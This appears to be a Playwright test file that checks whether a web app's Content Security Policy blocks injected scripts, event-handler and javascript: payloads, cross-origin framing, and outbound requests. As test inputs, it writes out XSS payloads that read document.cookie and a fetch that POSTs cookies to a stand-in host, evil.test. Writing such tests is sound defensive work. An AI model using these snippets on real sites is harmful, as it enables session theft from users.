import { serveClient } from '../fixtures/cross-origin-client/serve.ts'
import { call } from '../support/https.ts'
import { expect, test } from '../support/fixtures.ts'
import { COOKIE_NAME, sessionPage, UUID } from '../support/session-page.ts'

const VIOLATION = /violates the following Content Security Policy directive/

test('a script that was smuggled into the HTML does not run (X1)', async ({ page, app, problems }) => {
  problems.expect(VIOLATION)
  const { status, headers, body } = await call(`${app.origin}/`, { headers: { accept: 'text/html' } })
  const smuggled = body.replace(/<body[^>]*>/, tag => `${tag}<script>window.stolen = document.cookie</script>`).replace('<h1', '<h1 onclick="window.stolen = 1"')
  expect(smuggled).toMatch(/<script>window\.stolen[^]*onclick="window\.stolen/)
  await page.route('/', route => route.fulfill({ status, headers: { ...headers as Record<string, string>, 'set-cookie': '' }, body: smuggled }))
  await page.goto('/')
  await expect(sessionPage(page).value).toHaveValue(UUID)
  await page.getByRole('heading', { level: 1 }).click()

  expect(await page.evaluate(() => 'stolen' in window)).toBe(false)
})

test('a script that markup brings into the living page does not run (X1)', async ({ page, problems }) => {
  problems.expect(VIOLATION)
  await page.goto('/')
  await expect(sessionPage(page).value).toHaveValue(UUID)
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.stolen = 1'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1"><iframe src="javascript:parent.stolen = 1"></iframe>')
  })

  await expect.poll(() => page.evaluate(() => 'stolen' in window)).toBe(false)
})

test('a smuggled script that did run could neither read the cookie nor send anything elsewhere (X1)', async ({ page, problems }) => {
  problems.expect(/connect-src/)
  problems.expect(/Refused to connect because it violates the document's Content Security Policy/)
  await page.goto('/')
  await expect(sessionPage(page).value).toHaveValue(UUID)
  const sent = await page.evaluate(() => fetch('https://evil.test/', { method: 'POST', body: document.cookie }).then(() => true, () => false))

  expect(sent).toBe(false)
  expect(await page.evaluate(() => document.cookie)).not.toContain(COOKIE_NAME)
})

test('no other origin can show a page in a frame', async ({ page, app, problems }) => {
  problems.expect(/frame-ancestors/)
  problems.allow(/ERR_CONNECTION_REFUSED/) // The client looks for an API that is not there.
  const client = await serveClient(0)
  await page.goto(client.origin)
  await page.evaluate((source) => {
    const frame = document.createElement('iframe')
    frame.src = source
    document.body.append(frame)
    return new Promise(resolve => frame.addEventListener('load', resolve))
  }, app.origin)

  expect(await page.frames()[1]!.locator('body').innerText()).not.toContain('ticket')
  await client.close()
})
